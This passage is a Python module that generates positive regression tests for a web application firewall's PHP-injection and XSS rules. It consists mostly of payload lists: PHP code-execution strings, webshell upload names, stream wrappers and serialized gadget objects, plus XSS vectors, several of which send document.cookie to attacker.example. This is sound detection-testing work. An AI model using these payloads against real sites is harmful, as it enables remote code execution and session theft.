"""Blind set "sixtyfirst": the positive regression tests a seventh rule author writes for the PHP-injection and
XSS request-rule titles of CRS 3.3.4 (paranoia levels 1 and 2) and for the few titles CRS 4.x added to those
families, written from the titles alone, with benign requests that carry the same words innocently.

The angle: for each detection title, the canonical attack the title names, then one test per alternative the
title's family covers (every tag, attribute, keyword, function, wrapper, stream, directive, variable or dialect
the author knows, not only the famous one), then the variants a good rule must still catch (other quoting,
casing, whitespace and comment substitutes, concatenation, and encodings a server decodes: URL, double URL,
HTML entities, unicode escapes in JSON). 8 to 15 payloads per title, one sub-family per title:

- php: php-open-tag (933100), php-script-file-upload (933110), configuration-directive (933120),
  php-variables (933130), io-stream (933140), wrapper-scheme (933200), high-risk-function-name (933150),
  high-risk-function-call (933160), serialized-object-injection (933170), variable-function-call (933180),
  variable-function-call-string-callee (933210: string, array and concatenated callees, as CRS 4.x words it),
  medium-risk-function-name (933151).
- xss: xss-libinjection (941100), xss-libinjection-pl2 (941101: the request path and Referer),
  script-tag-vector (941110), event-handler-vector (941120), attribute-vector (941130), javascript-uri-vector
  (941140), noscript-html-injection (941160), noscript-attribute-injection (941170), node-validator-blacklist
  (941180), the fourteen "IE XSS Filters" titles, told apart by the IE8 filter family each one is known for:
  ie-xss-filters-style (941190), -vmlframe (941200), -obfuscated-javascript (941210), -obfuscated-vbscript
  (941220), -embed (941230), -import (941240), -meta-http-equiv (941250), -meta-charset (941260), -link-href
  (941270), -base-href (941280), -applet (941290), -object (941300), -location-name (941330),
  -property-assign (941340); us-ascii-malformed-encoding (941310), utf-7-encoding (941350), jsfuck-hieroglyphy
  (941360), javascript-global-variable (941370), disallowed-html-attributes (941150), html-tag-handler
  (941320), angularjs-template-injection (941380), and the CRS 4.x titles javascript-method and
  js-function-without-parentheses.

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
form of /admin/users/search (with csrf_token), the JSON of /api/users, a cookie, the User-Agent, the Referer,
another header (X-Client-Version), a parameter name, an XML body, a multipart field, a multipart filename and
the URL path. Once the way a WAF's regression suite sends it (placements prefixed "rs-"): to paths that are not
our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter
names (foo, var, x, test, id, arg1), as a query string, a form body, a JSON body, an XML body, a raw form-typed
body that is not key=value, the User-Agent, the Referer, a custom header or a cookie. Titles that name a place
keep to it: upload filenames go to multipart filenames and the X-Filename / X-File-Name headers, 941101 to the
path and the Referer, the US-ASCII malformed bytes (0xBC, 0xBE, 0xA2) to places that carry raw percent-encoded
bytes, and the "\\uXXXX" JSON variants to JSON bodies. Header values have CR and LF folded to spaces; the
recorded payload is the value as sent.

Benign: the same words as real people type them, in Slack messages and bios (chat_and_bio), searches, the
admin panel's search box, profile names, job titles and addresses, public documentation links and Slack slash
commands.

Authorship and independence: written for this repository from general knowledge of PHP and browser attack
techniques and from the rule titles alone; no rule file, ruleset regression test, public payload list or other
blind set was read. It was measured once, on unchanged code, and not altered after seeing the results.
Deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "sixtyfirst"

# A payload starting with JSONU: is sent in JSON bodies only, its punctuation written as \uXXXX escapes.
JSONU = "JSONU:"

PHP_SUBS: dict[str, list[str]] = {
    "php-open-tag": [
        "<?php echo 'pwned'; ?>",
        "<?PHP echo md5('x');?>",
        "<?= 7*7 ?>",
        "<? print 42; ?>",
        "<?php\nphpinfo();\n?>",
        "<script language=\"php\">echo 1;</script>",
        "<script language=php>print 1;</script>",
        "<% echo 1; %>",
        "GIF89a<?php echo 1; ?>",
        "?><?php echo 1;",
        "%3C%3Fphp echo 1; %3F%3E",
        "&lt;?php echo 1; ?&gt;",
        "<?php/**/echo 1;",
        "<?pHp\techo(1);",
    ],
    "php-script-file-upload": [
        "shell.php",
        "cmd.PHP",
        "avatar.php5",
        "image.phtml",
        "up.php3",
        "up.php4",
        "x.php7",
        "x.pht",
        "x.phar",
        "photo.jpg.php",
        "x.php.",
        "x.phps",
        "X.PhTmL",
        "shell.php::$DATA",
    ],
    "configuration-directive": [
        "allow_url_include=On",
        "allow_url_fopen = 1",
        "auto_prepend_file=php://input",
        "auto_append_file=/tmp/sess_abc",
        "disable_functions=",
        "open_basedir=/",
        "safe_mode=Off",
        "register_globals=on",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "error_log=/var/www/html/x.php",
        "php_value auto_prepend_file \"/tmp/x\"",
        "PHP_VALUE session.auto_start=1",
        "enable_dl=On",
        "short_open_tag = On",
    ],
    "php-variables": [
        "$_GET['cmd']",
        "$_POST[x]",
        "$_REQUEST[\"a\"]",
        "$_COOKIE['PHPSESSID']",
        "$_SERVER['HTTP_USER_AGENT']",
        "$_FILES['f']['tmp_name']",
        "$_ENV['PATH']",
        "$_SESSION['admin']=1",
        "$GLOBALS['config']",
        "$HTTP_RAW_POST_DATA",
        "$HTTP_GET_VARS['x']",
        "$http_response_header",
        "$_GET [ 'x' ]",
        "%24_POST%5B0%5D",
    ],
    "io-stream": [
        "php://input",
        "php://stdin",
        "php://stdout",
        "php://stderr",
        "php://output",
        "php://fd/0",
        "php://memory",
        "php://temp/maxmemory:1048576",
        "php://filter/convert.base64-encode/resource=config.php",
        "PHP://Input",
        "php%3A%2F%2Finput",
        "file_get_contents(\"php://input\")",
        "php://filter/read=string.toupper|string.rot13/resource=index.php",
        "pHp://fiLTer/resource=/etc/passwd",
    ],
    "wrapper-scheme": [
        "zlib://archive.gz",
        "compress.zlib://shell.gz",
        "compress.bzip2:///tmp/x.bz2",
        "zip://uploads/avatar.zip#shell.php",
        "phar://uploads/avatar.jpg/test.txt",
        "glob://*.php",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
        "expect://id",
        "ogg://http://attacker.example/x.ogg",
        "rar://uploads/x.rar#shell.php",
        "ssh2.shell://user:pass@example.com:22/xterm",
        "ssh2.exec://user:pass@example.com:22/usr/local/bin/x",
        "ssh2.sftp://user:pass@example.com:22/path/to/filename",
        "PHAR://./x.phar",
        "zip%3A%2F%2Fx.zip%23a.php",
    ],
    "high-risk-function-name": [
        "shell_exec",
        "@shell_exec",
        "base64_decode",
        "BASE64_DECODE",
        "call_user_func_array",
        "file_put_contents",
        "gzinflate",
        "gzuncompress",
        "str_rot13",
        "fsockopen",
        "pcntl_exec",
        "convert_uudecode",
        "get_defined_vars",
        "posix_getpwuid",
        "ReflectionFunction",
        "__halt_compiler",
    ],
    "high-risk-function-call": [
        "system('id')",
        "exec(\"whoami\")",
        "passthru('cat /etc/passwd')",
        "popen('id', 'r')",
        "proc_open('sh', $d, $p)",
        "eval($_POST['x'])",
        "assert(\"phpinfo()\")",
        "phpinfo()",
        "readfile('/etc/passwd')",
        "highlight_file('config.php')",
        "unserialize($_COOKIE['d'])",
        "system /**/ ('id')",
        "SYSTEM\t(\"id\")",
        "create_function('', 'system(\"id\");')",
        "include('http://attacker.example/s.txt')",
        "preg_replace('/a/e', 'system(1)', 'a')",
    ],
    "serialized-object-injection": [
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "O:+8:\"stdClass\":0:{}",
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"%00*%00events\";"
        "O:25:\"Illuminate\\Bus\\Dispatcher\":0:{}}",
        "a:2:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"socket\";N;}i:1;i:1;}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":1:{s:41:\"%00GuzzleHttp\\Cookie\\FileCookieJar%00filename\";"
        "s:11:\"/tmp/sh.php\";}",
        "O:8:\"WP_Theme\":0:{}",
        "o:4:\"User\":1:{s:5:\"admin\";b:1;}",
        "O%3A4%3A%22User%22%3A1%3A%7Bs%3A5%3A%22admin%22%3Bb%3A1%3B%7D",
        "s:4:\"test\";O:1:\"A\":0:{}",
        JSONU + "O:4:\"Vuln\":0:{}",
        "O:10:\"SoapClient\":2:{s:3:\"uri\";s:1:\"x\";s:8:\"location\";s:22:\"http://127.0.0.1:8080/\";}",
        "O:21:\"JDatabaseDriverMysqli\":1:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}}",
    ],
    "variable-function-call": [
        "$a($b)",
        "$f('id')",
        "$_GET['f']($_GET['c'])",
        "$_POST[0]($_POST[1])",
        "$x = 'system'; $x('whoami');",
        "$$name('id')",
        "$fn  ( 'ls' )",
        "$a/**/('id')",
        "$cb[0]('id')",
        "@$_REQUEST['x']($_REQUEST['y'])",
        "$_COOKIE['a']($_COOKIE['b'])",
        "$GLOBALS['f']()",
        "%24f(%27id%27)",
    ],
    "variable-function-call-string-callee": [
        "'system'('id')",
        "\"passthru\"(\"ls\")",
        "('sys'.'tem')('id')",
        "\"sys\".\"tem\"('whoami')",
        "(system)('id')",
        "['system'][0]('id')",
        "[\"sys\".\"tem\"][0](\"id\")",
        "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id')",
        "\"\\163\\171\\163\\164\\145\\155\"('id')",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
        "(base64_decode('c3lzdGVt'))('id')",
        "@'assert'($_POST[1])",
        "(strrev('metsys'))('id')",
        "'sys'.'tem'/**/('id')",
    ],
    "medium-risk-function-name": [
        "array_map",
        "array_filter",
        "usort",
        "register_shutdown_function",
        "ob_start",
        "preg_replace_callback",
        "set_error_handler",
        "iterator_apply",
        "putenv",
        "ini_set",
        "symlink",
        "move_uploaded_file",
        "php_uname",
        "curl_exec",
        "parse_str",
    ],
}

XSS_SUBS: dict[str, list[str]] = {
    "xss-libinjection": [
        "\"><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "'><svg onload=confirm(document.domain)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert('XSS')>",
        "\"><img src=1 onerror=prompt(1)>",
        "<a href=\"javascript:alert(document.cookie)\">click</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
    "xss-libinjection-pl2": [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(document.cookie)</script>",
        "<iframe src=javascript:alert(1)>",
        "'><body onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<video><source onerror=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<x onclick=alert(1)>click",
    ],
    "script-tag-vector": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        "<script src=\"https://attacker.example/xss.js\"></script>",
        "<script type=\"text/javascript\">document.location='//attacker.example/?c='+document.cookie</script>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script>",
        "<script\t>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        JSONU + "<script>alert(1)</script>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<sCrIpT>confirm(1)</ScRiPt>",
    ],
    "event-handler-vector": [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<div onclick=alert(1)>x</div>",
        "<details open ontoggle=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<div style=\"animation-name:x\" onanimationstart=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<img src=x onerror\t=\talert(1)>",
        "<img src=x ONERROR=alert(1)>",
        "<x onpointerenter=alert(1)>",
        "<body onhashchange=alert(1)>",
    ],
    "attribute-vector": [
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<object data=\"data:text/html,<script>alert(1)</script>\">",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<input type=submit formaction=\"javascript:alert(1)\">",
        "<style>@import 'http://attacker.example/x.css';</style>",
        "<!ENTITY % ext SYSTEM \"http://attacker.example/x.dtd\">",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<input pattern=\".*\" oninvalid=alert(1) required>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "data:text/html,<script>alert(1)</script>",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>",
    ],
    "javascript-uri-vector": [
        "<a href=\"javascript:alert(1)\">x</a>",
        "<div style=\"background-image:url(javascript:alert(1))\">",
        "<div style=\"background:url('javascript:alert(1)')\">",
        "<table background=\"javascript:alert(1)\">",
        "<iframe src=\"JaVaScRiPt:alert(1)\">",
        "javascript:alert(document.domain)",
        "javascript://comment%0Aalert(1)",
        "java\tscript:alert(1)",
        "<a href=\" javascript:alert(1)\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<img src=\"javascript:alert('XSS')\">",
        "<a href=\"jav&#x09;ascript:alert(1)\">",
        JSONU + "javascript:alert(1)",
        "<p style=\"color:red;background:url(javascript:alert(1))\">",
    ],
    "disallowed-html-attributes": [
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<bgsound src=\"javascript:alert(1)\">",
        "<input type=\"image\" src=\"javascript:alert(1)\">",
        "<body background=\"javascript:alert(1)\">",
        "<div style=\"width:expression(alert(1))\">",
        "<p style=x:expression(alert(1))>",
        "<a href=//attacker.example/phish>login</a>",
        "<iframe src=//attacker.example/>",
        "<span datasrc=\"#xss\" datafld=\"b\" dataformatas=\"html\"></span>",
        "x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
        "<frame src=\"javascript:alert(1)\">",
        "<td background=\"javascript:alert(1)\">",
    ],
    "noscript-html-injection": [
        "<script>alert(1)</script>",
        "<iframe src=//attacker.example>",
        "<form action=//attacker.example/login><input name=pass type=password></form>",
        "<style>body{background:red}</style>",
        "<object data=//attacker.example/x.swf>",
        "<embed src=//attacker.example/x.swf>",
        "<frameset><frame src=//attacker.example></frameset>",
        "<meta http-equiv=refresh content=\"0;url=//attacker.example\">",
        "<link rel=import href=//attacker.example/x.html>",
        "<base href=//attacker.example/>",
        "<applet code=Evil.class>",
        "<isindex action=javascript:alert(1) type=image>",
        "<svg onload=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
    ],
    "noscript-attribute-injection": [
        "\" onmouseover=\"alert(1)\" x=\"",
        "' onfocus='alert(1)' autofocus '",
        "\" style=\"x:expression(alert(1))",
        "\" href=\"javascript:alert(1)",
        "x\" src=\"data:text/html,<script>alert(1)</script>",
        "\" formaction=\"javascript:alert(1)",
        "' style='-moz-binding:url(//attacker.example/x.xml#xss)",
        "\" style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "\" background=\"javascript:alert(1)",
        "x\" onload=alert(1) \"",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
    "node-validator-blacklist": [
        "document.cookie",
        "document.write('<img src=//attacker.example/?c='+document.cookie+'>')",
        "window.location='//attacker.example'",
        "this.parentNode.innerHTML='x'",
        "el.innerHTML = payload",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "--><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "-moz-binding:url(//attacker.example/xss.xml#a)",
        "new Image().src='//attacker.example/?c='+document.cookie",
        "document.location.href='//attacker.example'",
        "DOCUMENT.COOKIE",
        "top.document.cookie",
    ],
    "ie-xss-filters-style": [
        "<style>@import'//attacker.example/x.css';</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
        "<style type=\"text/css\">.x{behavior:url(x.htc)}</style>",
        "<style>*{x:expression(alert(1))}</style>",
        "<style>a{color:e&#x78;pression(alert(1))}</style>",
        "<style>\n@import url(//attacker.example/a.css);\n</style>",
        "<STYLE TYPE=\"text/javascript\">alert(1);</STYLE>",
        "<style>p{background:url(\\6a\\61\\76\\61script:alert(1))}</style>",
        "<style>x{-moz-binding:url(//attacker.example/x.xml#x)}</style>",
    ],
    "ie-xss-filters-vmlframe": [
        "<v:vmlframe src=\"//attacker.example/x.vml#xss\">",
        "<x:vmlframe src=foo.vml#xss></x:vmlframe>",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"http://attacker.example/a.vml\">",
        "<V:VMLFRAME SRC=javascript:alert(1)>",
        "<v:vmlframe\tsrc=//attacker.example/x.vml>",
        "<v:vmlframe/src=//attacker.example/x.vml>",
        "<v:vmlframe+src=\"x.vml#a\">",
        "<ns:vmlframe id=a src = \"//attacker.example/b.vml#c\">",
        "%3Cv:vmlframe src=//attacker.example/x.vml%3E",
        "<v:rect><v:vmlframe src=\"#x\"></v:vmlframe></v:rect>",
    ],
    "ie-xss-filters-obfuscated-javascript": [
        "j&#x61;vascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "java&#0000115cript:alert(1)",
        "javascri&#x70;t:alert(1)",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "ja\nvascript:alert(1)",
        "javas&#99;ript&#58;alert(1)",
        "&#X6a;avascript:alert(1)",
        "<img src=\"jav&#9;ascript:alert(1)\">",
    ],
    "ie-xss-filters-obfuscated-vbscript": [
        "vbscript:msgbox(\"XSS\")",
        "<a href=\"vbscript:MsgBox(1)\">x</a>",
        "vbs&#99;ript:msgbox(1)",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;&#58;msgbox(1)",
        "v&#x62;script:alert(1)",
        "VBSCRIPT:Execute(\"MsgBox 1\")",
        "vb&#x09;script:msgbox(1)",
        "<img src='vbscript:msgbox(\"XSS\")'>",
        "vbscr&#x69;pt:msgbox(document.cookie)",
        "<meta http-equiv=\"refresh\" content=\"0;url=vbscript:msgbox(1)\">",
    ],
    "ie-xss-filters-embed": [
        "<embed src=\"//attacker.example/x.swf\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\">",
        "<embed type=\"application/x-shockwave-flash\" src=x.swf allowscriptaccess=always>",
        "<embed/src=//attacker.example/a.swf>",
        "<embed\tsrc=javascript:alert(1)>",
        "<embed width=1 height=1 src=x>",
        "<embed+src=//attacker.example/x>",
        "%3Cembed src=//attacker.example/x.swf%3E",
        "<EmBeD sRc=\"javascript:alert(1)\">",
        "<embed src=x.svg type=image/svg+xml>",
    ],
    "ie-xss-filters-import": [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=\"#default#time2\">",
        "<?IMPORT namespace=\"x\" implementation=\"http://attacker.example/x.htc\">",
        "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\">"
        "<t:set attributeName=\"innerHTML\" to=\"XSS<script defer>alert(1)</script>\">",
        "<?import\timplementation=\"#default#VML\">",
        "<import/implementation=#default#time2>",
        "<?import namespace=\"v\" implementation = \"#default#VML\" ?>",
        "%3C?import implementation=\"#default#time2\"%3E",
        "<?import namespace=t implementation=#default#time2 declareNamespace>",
    ],
    "ie-xss-filters-meta-http-equiv": [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert(1);\">",
        "<meta http-equiv=\"Set-Cookie\" content=\"USERID=<script>alert(1)</script>\">",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
        "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<meta http-equiv='refresh' content='0;url=//attacker.example'>",
        "<meta/http-equiv=refresh content=0;url=//attacker.example>",
        "<meta http-equiv=\"&#82;efresh\" content=\"0;url=//attacker.example\">",
        "<meta http-equiv=\"content-security-policy\" content=\"script-src * 'unsafe-inline'\">",
        "<meta name=x http-equiv=Set-Cookie content=\"a=b\">",
    ],
    "ie-xss-filters-meta-charset": [
        "<meta charset=\"UTF-7\">",
        "<meta charset=x-user-defined>",
        "<META CHARSET=\"ISO-2022-JP\">",
        "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta content=\"text/html\" charset = \"UTF-16\">",
        "<meta/charset=utf-7>",
        "<meta\tcharset=shift_jis>",
        "%3Cmeta charset=utf-7%3E",
    ],
    "ie-xss-filters-link-href": [
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<LINK REL=\"stylesheet\" HREF=\"//attacker.example/xss.css\">",
        "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
        "<link rel=\"prefetch\" href=\"//attacker.example/?c=1\">",
        "<link/rel=stylesheet/href=//attacker.example/a.css>",
        "<link href=\"http://attacker.example/x.css\" rel=stylesheet type=text/css>",
        "<link rel=icon href=javascript:alert(1)>",
        "<LiNk hReF=//attacker.example/x>",
        "<link rel=\"preload\" as=\"script\" href=\"//attacker.example/x.js\">",
    ],
    "ie-xss-filters-base-href": [
        "<base href=\"//attacker.example/\">",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<base href=http://attacker.example/ target=_blank>",
        "<base/href=//attacker.example>",
        "<base target=\"_top\" href=\"https://attacker.example/\">",
        "<base\thref=//attacker.example>",
        "\"><base href=//attacker.example/>",
        "%3Cbase href=//attacker.example/%3E",
    ],
    "ie-xss-filters-applet": [
        "<applet code=\"Evil.class\" codebase=\"//attacker.example/\">",
        "<APPLET CODE=\"Exploit\" archive=\"x.jar\"></APPLET>",
        "<applet>",
        "<applet/code=x.class>",
        "<applet\tcode=a>",
        "\"><applet code=Evil.class width=1 height=1>",
        "<applet+code=x>",
        "<Applet Code=\"javascript:alert(1)\">",
    ],
    "ie-xss-filters-object": [
        "<object data=\"javascript:alert(1)\">",
        "<object type=\"text/x-scriptlet\" data=\"//attacker.example/x.sct\"></object>",
        "<OBJECT CLASSID=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\"><PARAM NAME=\"DataURL\" "
        "VALUE=\"javascript:alert(1)\"></OBJECT>",
        "<object codetype=\"application/java\" code=\"Evil.class\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<object type=\"application/x-shockwave-flash\" data=\"x.swf\"><param name=allowScriptAccess "
        "value=always></object>",
        "<object/data=//attacker.example/x.svg>",
        "<object\ttype=text/html data=//attacker.example>",
        "<OBJECT CODE=x.class>",
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)>"
        "</object>",
    ],
    "ie-xss-filters-location-name": [
        "\";location='javascript:alert(1)';//",
        "';location.href='//attacker.example/?'+document.cookie;//",
        "\";name='alert(1)';eval(name)//",
        "'-location='//attacker.example'-'",
        "\"in(location='javascript:alert(1)')//",
        "';window.name=\"x\";//",
        "\";\\u006Cocation='javascript:alert(1)';//",
        "';top.location='//attacker.example';'",
        "\"};location='javascript:alert(1)';{\"",
        "';onerror=eval;throw'=alert\\x281\\x29';//",
        "'; valueOf=alert;//",
    ],
    "ie-xss-filters-property-assign": [
        "\";document.cookie='a=b';//",
        "';window.location.href='//attacker.example';//",
        "\";document.body.innerHTML='<h1>x</h1>';//",
        "'+document.domain='x'+'",
        "';document.forms[0].action='//attacker.example/steal';//",
        "\"};top.document.title='pwned';{\"",
        "\" ;Object.prototype.x=1;//",
        "'|this.src='//attacker.example'|'",
        "\";XMLHttpRequest.prototype.send=function(){};//",
        "\";window.opener.location='//attacker.example';//",
    ],
    "us-ascii-malformed-encoding": [
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00a2\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00bcbody onload=alert(1)\u00be",
        "\u00bcscript src=//attacker.example/x.js\u00be\u00bc/script\u00be",
        "\u00bca href=javascript:alert(1)\u00bex\u00bc/a\u00be",
        "\u00bcSCRIPT\u00bealert(1)\u00bc/SCRIPT\u00be",
    ],
    "utf-7-encoding": [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-script+AD4-alert('XSS')+ADsAPA-/script+AD4-",
        "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADwALwBzAGMAcgBpAHAAdAA+-",
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "+ADwALwB0AGkAdABsAGUAPgA8AHMAYwByAGkAcAB0AD4-alert(1)+ADw-/script+AD4-",
        "%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
        "+ADwAYQAgAGgAcgBlAGYAPQAi-javascript:alert(1)+ACIAPg-x+ADw-/a+AD4-",
        "+ADw-body onload+AD0-alert(1)+AD4-",
    ],
    "jsfuck-hieroglyphy": [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]",
        "(!![]+[])[+[]]+(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]]+(!![]+[])[!+[]+!+[]+!+[]]",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])"
        "[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[][(![]+[])[+[]]])[+!+[]+[+[]]]]",
        "[][[]]+[]",
        "(+{}+[])[+!\"\"]+({}+\"\")[+!\"\"]+([]+{})[!+[]+!+[]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$],_$_:++$,$_$$:({}+\"\")[$],"
        "$$_$:($[$]+\"\")[$],_$$:++$,$$$_:(!\"\"+\"\")[$],$__:++$,$_$:++$,$$__:({}+\"\")[$]};",
        "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 ~\u253b\u2501\u253b   //*\u00b4\u2207\uff40*/ "
        "['_']; o=(\uff9f\uff70\uff9f)  =_=3;",
        "%5B%5D%5B(!%5B%5D%2B%5B%5D)%5B%2B%5B%5D%5D%5D",
        "( ! [ ] + [ ] ) [ + ! + [ ] ]",
        "[][(!![]+[])[!+[]+!+[]+!+[]]+([][[]]+[])[+!+[]]]",
    ],
    "javascript-global-variable": [
        "window['alert'](1)",
        "self['al'+'ert'](document.domain)",
        "top[\"al\\x65rt\"](1)",
        "parent['ale'+'rt'](1)",
        "frames['alert'](1)",
        "globalThis['eval']('alert(1)')",
        "this['alert'](1)",
        "document['cookie']",
        "window[/*x*/'alert'](1)",
        "window ['alert'] (1)",
        "self[String.fromCharCode(97,108,101,114,116)](1)",
        "top[atob('YWxlcnQ=')](1)",
        "content['alert'](1)",
        "top[/al/.source+/ert/.source](1)",
    ],
    "html-tag-handler": [
        "<a href=//attacker.example>click</a>",
        "<b onmouseover=alert(1)>x</b>",
        "<marquee behavior=alternate>x</marquee>",
        "<details open>",
        "<video src=x onerror=alert(1)>",
        "<audio src=x>",
        "<keygen autofocus onfocus=alert(1)>",
        "<plaintext>",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea>",
        "<button>",
        "<h1>Hacked</h1>",
        "<table><tr><td>",
        "<select autofocus onfocus=alert(1)>",
    ],
    "angularjs-template-injection": [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
